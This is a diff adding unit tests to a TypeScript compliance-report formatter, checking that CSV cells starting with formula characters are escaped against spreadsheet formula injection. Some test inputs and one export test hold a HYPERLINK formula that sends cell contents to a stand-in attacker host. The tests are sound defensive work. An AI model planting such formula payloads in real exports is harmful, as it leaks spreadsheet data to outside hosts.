@@ -1,5 +1,5 @@
 import type { ReportRow } from '../../src/compliance/finding.repository';
-import { describeSentence, toCsv, toMarkdown } from '../../src/compliance/report.format';
+import { csvCell, describeSentence, toCsv, toMarkdown } from '../../src/compliance/report.format';
 
 const VERSION = { lawRevision: '97', findingsVersion: '1203', readAt: '2026-12-07T10:15:00Z' };
 
@@ -88,5 +88,37 @@ describe('report formatting', () => {
     expect(md.trimEnd().split('\n').pop()).toBe(
       'Data: law revision 97, findings version 1203, read 2026-12-07T10:15:00Z.',
     );
+  });
+});
+
+describe('CSV cells a spreadsheet would run as formulas', () => {
+  it.each([
+    [
+      '=HYPERLINK("http://attacker.example/?x="&A1,"open")',
+      `"'=HYPERLINK(""http://attacker.example/?x=""&A1,""open"")"`,
+    ],
+    ['+1+1', `"'+1+1"`],
+    ['-2+3', `"'-2+3"`],
+    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
+    ['\t=1', `"'\t=1"`],
+    ['\r=1', `"'\r=1"`],
+  ])('%j is written as the text %s', (value, cell) => {
+    expect(csvCell(value)).toBe(cell);
+  });
+
+  it.each([['K.nr. 123/2016'], ['P 45/15'], ['2016-06-15'], ['42'], ['BELOW_MINIMUM'], ['a=b'], ["O'Brien"]])(
+    'keeps %j as it is',
+    (value) => {
+      expect(csvCell(value)).toBe(value);
+    },
+  );
+
+  it('neutralises a case number that is a formula in the export', () => {
+    const csv = toCsv(
+      [{ ...row(), caseNumber: '=HYPERLINK("http://attacker.example/?x="&A1,"open")' }],
+      VERSION,
+    );
+    const line = csv.split('\n')[1];
+    expect(line.startsWith(`"'=HYPERLINK(`)).toBe(true);
   });
 });
